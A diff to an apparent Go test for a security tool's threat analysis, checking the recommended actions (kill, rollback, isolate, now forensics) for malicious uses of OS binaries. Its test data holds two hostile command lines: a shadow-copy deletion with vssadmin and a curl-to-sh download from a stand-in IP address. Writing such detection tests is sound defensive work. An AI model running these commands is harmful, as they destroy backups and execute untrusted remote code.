@@ -37,7 +37,7 @@ func TestOSBinariesAreKilledNotQuarantined(t *testing.T) {
 	vss := analyze(t, server(investigation.ThreatFacts{ThreatName: "vssadmin.exe", FilePath: `C:\Windows\System32\vssadmin.exe`,
 		FileVerificationType: "SignedVerified", PublisherName: "Microsoft Windows", ConfidenceLevel: "malicious",
 		CommandLine: "vssadmin.exe delete shadows /all /quiet", OriginatorProcess: "cmd.exe"}))
-	assert.Equal(t, acts(kill, rollback, isolate), vss.RecommendedActions)
+	assert.Equal(t, acts(kill, rollback, isolate, forensics), vss.RecommendedActions)
 
 	shell := analyze(t, investigation.ThreatFacts{ThreatID: "1", ThreatName: "bash", FilePath: "/usr/bin/bash", OSType: "linux",
 		MachineType: "server", ConfidenceLevel: "malicious", CommandLine: "bash -c 'curl -s http://198.51.100.7/x | sh'"})
